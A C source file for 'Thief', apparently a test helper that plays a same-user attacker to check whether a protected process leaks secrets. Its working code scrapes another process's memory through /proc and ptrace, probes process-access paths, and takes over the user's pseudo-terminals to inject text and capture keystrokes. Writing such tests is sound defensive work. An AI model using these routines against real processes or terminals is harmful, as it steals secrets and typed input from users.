// Attacks another process of the same user, as an attacker with this user's rights would.
//
//   Thief race PID            Opens the memory of PID again and again, says "ready" when that has worked once, and goes
//                             on until a line with BYTES comes. Then says "found N alive M": what N is below, in the
//                             memory behind the descriptors opened last, and whether any of it still exists.
//   Thief memory PID BYTES    Says "found N in PLACE": how often seven of the bytes occur in a row in writable memory,
//                             unchanged, in one case or backwards, and the name of the last place.
//   Thief registers PID BYTES Says "found N", of the vector registers.
//   Thief probe PID           Tries every way to the process that Linux has. Says "NAME done" or "NAME no" for each.
//   Thief terminal LINE       Says "ready", then opens every terminal of this user that it can, again and again, writes
//                             LINE there, and says "opened N" and "read BYTES" of what is typed there.
//   Thief reader WAY FILE     As the user nobody, if started by root, reads the terminal of descriptor 1 in a WAY that
//                             job control does not stop, see `readers`. Appends "waits" to FILE once it reads, and
//                             then "read BYTES".
//
// BYTES are hexadecimal, each inverted, so that the search does not find itself.

#define _GNU_SOURCE
#include <ctype.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAIRS 200
#define CHUNK (1 << 20)

enum { AS_IT_IS, LOWER, UPPER, BACKWARDS, FORMS };
#define PIECE 7

static unsigned char inverted[FORMS][64];
static size_t length;
static unsigned char is_start[256];

static void take_bytes(const char *text) {
  unsigned byte;
  while (length < sizeof *inverted && sscanf(text + 2 * length, "%2x", &byte) == 1)
    inverted[AS_IT_IS][length++] = (unsigned char)byte;
  for (size_t n = 0; n < length; n++) {
    unsigned char plain = (unsigned char)~inverted[AS_IT_IS][n];
    inverted[LOWER][n] = (unsigned char)~tolower(plain);
    inverted[UPPER][n] = (unsigned char)~toupper(plain);
    inverted[BACKWARDS][length - 1 - n] = (unsigned char)~plain;
  }
  for (int form = 0; form < FORMS; form++)
    for (size_t n = 0; n < length; n++) is_start[(unsigned char)~inverted[form][n]] = 1;
}

static int is_piece(const unsigned char *bytes) {
  for (int form = 0; form < FORMS; form++)
    for (size_t first = 0; first + PIECE <= length; first++) {
      size_t same = 0;
      while (same < PIECE && (unsigned char)~bytes[same] == inverted[form][first + same]) same++;
      if (same == PIECE) return 1;
    }
  return 0;
}

static long pieces(const unsigned char *bytes, size_t size) {
  long found = 0;
  for (size_t n = 0; n + PIECE <= size; n++) found += is_start[bytes[n]] && is_piece(bytes + n);
  return found;
}

static int open_file(pid_t pid, const char *name) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  return open(path, O_RDONLY | O_CLOEXEC);
}

/// Looks through the memory of both descriptors. Returns whether there is any.
static int search(int maps, int memory, long *found, char place[64]) {
  static unsigned char chunk[CHUNK];
  FILE *file = fdopen(maps, "r");
  char line[512], rights[8], name[64];
  unsigned long start, end;
  int is_alive = 0;
  while (file && fgets(line, sizeof line, file)) {
    name[0] = 0;
    if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %63s", &start, &end, rights, name) < 3 || strncmp(rights, "rw", 2)) continue;
    while (start < end) {
      size_t wanted = end - start < CHUNK ? end - start : CHUNK;
      ssize_t count = pread(memory, chunk, wanted, (off_t)start);
      if (count <= 0) break;
      is_alive = 1;
      long here = pieces(chunk, (size_t)count);
      if (here > 0) strcpy(place, name[0] ? name : "anonymous");
      *found += here;
      start += (size_t)count < CHUNK ? (size_t)count : CHUNK - PIECE;
    }
  }
  return is_alive;
}

static int race(pid_t pid) {
  int pairs[PAIRS][2], is_ready = 0, is_ordered = 0;
  unsigned next = 0;
  memset(pairs, -1, sizeof pairs);
  struct pollfd order = {.fd = STDIN_FILENO, .events = POLLIN};
  for (unsigned turn = 0;; turn++) {
    // A last round of attempts comes after the order, however long this process did not run before it.
    if (turn % 256 == 0 && poll(&order, 1, 0) > 0 && is_ordered++) break;
    int maps = open_file(pid, "maps"), memory = open_file(pid, "mem");
    if (maps < 0 || memory < 0) {
      if (maps >= 0) close(maps);
      if (memory >= 0) close(memory);
      continue;
    }
    int *pair = pairs[next++ % PAIRS];
    if (pair[0] >= 0) close(pair[0]);
    if (pair[1] >= 0) close(pair[1]);
    pair[0] = maps;
    pair[1] = memory;
    if (!is_ready) printf("ready\n");
    fflush(stdout);
    is_ready = 1;
  }
  char line[4 * sizeof *inverted], place[64] = "";
  if (!fgets(line, sizeof line, stdin)) return 1;
  take_bytes(line);
  long found = 0;
  int is_alive = 0;
  for (unsigned n = 1; n <= PAIRS && !is_alive; n++) {
    int *pair = pairs[(next + PAIRS - n) % PAIRS];
    if (pair[0] >= 0) is_alive = search(pair[0], pair[1], &found, place);
  }
  printf("found %ld alive %d\n", found, is_alive);
  return 0;
}

static int memory(pid_t pid) {
  long found = 0;
  char place[64] = "none";
  if (!search(open_file(pid, "maps"), open_file(pid, "mem"), &found, place)) return 1;
  printf("found %ld in %s\n", found, place);
  return 0;
}

static void tell(const char *name, int is_done) { printf("%s %s\n", name, is_done ? "done" : "no"); }

static int probe(pid_t pid) {
  static const char *const files[] = {"mem", "maps", "environ", "auxv"};
  for (size_t n = 0; n < sizeof files / sizeof *files; n++) {
    char byte;
    int file = open_file(pid, files[n]);
    // Without rights the kernel lets some of them be opened, but they are empty.
    tell(files[n], file >= 0 && (n == 0 || read(file, &byte, 1) == 1));
  }
  static const char *const links[] = {"exe", "fd/0"};
  char path[64], target[256];
  for (size_t n = 0; n < sizeof links / sizeof *links; n++) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, links[n]);
    tell(links[n], readlink(path, target, sizeof target) > 0);
  }
  struct iovec here = {target, 1}, there = {(void *)0x400000, 1};
  tell("process_vm_readv", process_vm_readv(pid, &here, 1, &there, 1, 0) == 1 || errno == EFAULT);
  tell("pidfd_getfd", syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, pid, 0), 0, 0) >= 0);
  tell("ptrace", ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0);
  return 0;
}

static int registers(pid_t pid) {
  static unsigned char state[16384];
  struct iovec place = {state, sizeof state};
  int status;
  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) || ptrace(PTRACE_INTERRUPT, pid, NULL, NULL)) return 1;
  if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) return 1;
#ifdef __x86_64__
  const long set = NT_X86_XSTATE;
#else
  const long set = NT_PRFPREG;
#endif
  if (ptrace(PTRACE_GETREGSET, pid, set, &place)) return 1;
  printf("found %ld\n", pieces(state, place.iov_len));
  return 0;
}

/// Waits at the terminal `number` for what is typed.
static void listen(int tty, int number, const char *line) {
  char bytes[256];
  printf("opened %d\n", number);
  if (write(tty, line, strlen(line)) < 0) perror("write");
  fcntl(tty, F_SETFL, 0);
  for (ssize_t length; (length = read(tty, bytes, sizeof bytes)) > 0;) printf("read %.*s\n", (int)length, bytes);
  _exit(0);
}

static int terminal(const char *line) {
  enum { most = 64 };
  char has[most] = {0};
  setvbuf(stdout, NULL, _IOLBF, 0);
  printf("ready\n");
  for (int number = 0;; number = (number + 1) % most) {
    char path[32];
    snprintf(path, sizeof path, "/dev/pts/%d", number);
    if (chmod(path, S_IRUSR | S_IWUSR) == -1) {
      has[number] = 0;
      while (waitpid(-1, NULL, WNOHANG) > 0) continue;
      continue;
    }
    int tty = has[number] ? -1 : open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
    if (tty < 0) continue;
    has[number] = 1;
    if (fork() == 0) listen(tty, number, line);
    close(tty);
  }
}

/// What a reader does, in this order.
struct reader {
  const char *name;
  /// It says "bides" and does nothing more until there is a file called as FILE with ".go".
  char is_late;
  /// Its descriptor is one of /dev/tty.
  char opens_device;
  /// It gives up its controlling terminal, or its session.
  char drops, leaves_session;
  /// It bides its time only now.
  char bides;
  /// The thread that reads has a table of descriptors of its own.
  char has_table;
  /// Once the thread waits: the descriptor is closed, replaced by /dev/null, or the process leaves the foreground.
  char closes, replaces, leaves_foreground;
  /// The first thread ends.
  char ends;
};

static const struct reader readers[] = {
    {.name = "foreground"},
    {.name = "dropped", .drops = 1},
    {.name = "guest", .drops = 1, .bides = 1},
    {.name = "late", .is_late = 1, .drops = 1},
    {.name = "device", .opens_device = 1, .leaves_session = 1},
    {.name = "closed", .leaves_session = 1, .closes = 1},
    {.name = "replaced", .leaves_session = 1, .replaces = 1},
    {.name = "background", .leaves_foreground = 1},
    {.name = "table", .leaves_session = 1, .has_table = 1, .closes = 1},
    {.name = "ended", .leaves_session = 1, .ends = 1},
};

static const struct reader *reader;
static int read_end, log_file, thread;

static void *read_terminal(void *unused) {
  char bytes[256];
  if (reader->has_table) unshare(CLONE_FILES);
  __atomic_store_n(&thread, (int)syscall(SYS_gettid), __ATOMIC_SEQ_CST);
  ssize_t count = read(read_end, bytes, sizeof bytes);
  dprintf(log_file, "read %.*s\n", (int)(count > 0 ? count : 0), bytes);
  return unused;
}

/// Waits until the thread that reads has begun to sleep.
static void await_read(void) {
  char path[64], text[256] = "";
  while (strstr(text, ") S ") == NULL) {
    usleep(1000);
    snprintf(path, sizeof path, "/proc/self/task/%d/stat", __atomic_load_n(&thread, __ATOMIC_SEQ_CST));
    int file = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t count = file == -1 ? 0 : read(file, text, sizeof text - 1);
    text[count > 0 ? count : 0] = 0;
    if (file != -1) close(file);
  }
}

/// Ends the process if nobody can want it any more.
static void bide(const char *path) {
  char go[256];
  snprintf(go, sizeof go, "%s.go", path);
  dprintf(log_file, "bides\n");
  while (access(go, F_OK) == -1) {
    if (access(path, F_OK) == -1) _exit(0);
    usleep(10000);
  }
}

static int read_along(const char *way, const char *path) {
  for (size_t n = 0; n < sizeof readers / sizeof *readers; n++) {
    if (strcmp(readers[n].name, way) == 0) reader = &readers[n];
  }
  int nothing = open("/dev/null", O_RDWR | O_CLOEXEC);
  log_file = open(path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0600);
  int device = open("/dev/tty", O_RDWR | O_CLOEXEC);
  read_end = reader && reader->opens_device ? device : fcntl(1, F_DUPFD_CLOEXEC, 3);
  if (!reader || log_file < 0 || device < 0 || read_end < 0) return 1;
  for (int n = 0; n < 3; n++) dup2(nothing, n);
  if (geteuid() == 0 && (setregid(65534, 65534) || setreuid(65534, 65534))) return 1;
  if (reader->is_late) bide(path);
  if (reader->drops && ioctl(device, TIOCNOTTY)) return 1;
  if (reader->leaves_session && setsid() == -1) return 1;
  if (device != read_end) close(device);
  if (reader->bides) bide(path);
  pthread_t started;
  if (pthread_create(&started, NULL, read_terminal, NULL)) return 1;
  await_read();
  if (reader->closes) close(read_end);
  if (reader->replaces) dup2(nothing, read_end);
  if (reader->leaves_foreground && setpgid(0, 0)) return 1;
  dprintf(log_file, "waits\n");
  if (reader->ends) pthread_exit(NULL);
  pthread_join(started, NULL);
  return 0;
}

int main(int count, char **words) {
  const char *way = count > 2 ? words[1] : "";
  pid_t pid = count > 2 ? atoi(words[2]) : 0;
  if (strcmp(way, "terminal") == 0) return terminal(words[2]);
  if (strcmp(way, "reader") == 0 && count > 3) return read_along(words[2], words[3]);
  if (strcmp(way, "race") == 0) return race(pid);
  if (strcmp(way, "probe") == 0) return probe(pid);
  if (count < 4) return 2;
  take_bytes(words[3]);
  if (strcmp(way, "memory") == 0) return memory(pid);
  return strcmp(way, "registers") == 0 ? registers(pid) : 2;
}
